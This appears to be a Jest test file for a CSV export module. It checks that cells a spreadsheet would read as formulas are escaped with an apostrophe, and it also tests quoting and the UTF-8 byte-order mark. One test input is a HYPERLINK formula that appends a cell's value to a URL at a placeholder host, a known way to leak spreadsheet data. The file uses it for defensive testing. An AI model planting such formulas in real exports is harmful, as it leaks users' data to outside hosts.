import { csvLine, csvWriter, harmless } from './csv'

describe('a cell that a spreadsheet would take for a formula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://example.org?"&A1)', '\'=HYPERLINK("https://example.org?"&A1)'],
    ['+86 13800000000', "'+86 13800000000"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['  =1', "'  =1"],
    ['\u200b=1', "'\u200b=1"],
    ['＝1＋1', "'＝1＋1"],
    ['－1', "'－1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
  ])('%j becomes %j', (words, safe) => expect(harmless(words)).toBe(safe))

  it.each(['道路交通', 'CFD-20260302-0001-0', '2026-03-02 09:05', '1=1', 'a@b', '', ' ', '😀'])('%j stays', (words) =>
    expect(harmless(words)).toBe(words),
  )
})

describe('a line', () => {
  it.each<[string, (string | number)[], string]>([
    ['cells between commas', ['a', 'b'], 'a,b\r\n'],
    ['numbers as they are, below zero too', [1, -2, 0], '1,-2,0\r\n'],
    ['empty cells', ['', '', 'c'], ',,c\r\n'],
    ['a comma inside', ['a,b', 'c'], '"a,b",c\r\n'],
    ['quotes inside, twice', ['说“好”', 'say "yes"'], '说“好”,"say ""yes"""\r\n'],
    ['a new line inside', ['a\nb', 'a\r\nb'], '"a\nb","a\r\nb"\r\n'],
    ['a formula with a comma', ['=A1,B1'], '"\'=A1,B1"\r\n'],
  ])('has %s', (_, cells, line) => expect(csvLine(cells)).toBe(line))
})

it('is a file of bytes: the mark by which Excel knows UTF-8 once, then the heads, then the rows', () => {
  const { add, end } = csvWriter(['编号', 'n'], (text) => new TextEncoder().encode(text))
  const pieces = [...add([['a', 1]]), ...add([]), ...add([['b', 2]]), ...end()]
  const bytes = Buffer.concat(pieces)
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(bytes.toString('utf8').slice(1)).toBe('编号,n\r\na,1\r\nb,2\r\n')
})

it('has its heads also where there are no rows', () => {
  const { end } = csvWriter(['a', 'b'], (text) => new TextEncoder().encode(text))
  expect(Buffer.concat(end()).toString('utf8')).toBe('\uFEFFa,b\r\n')
})
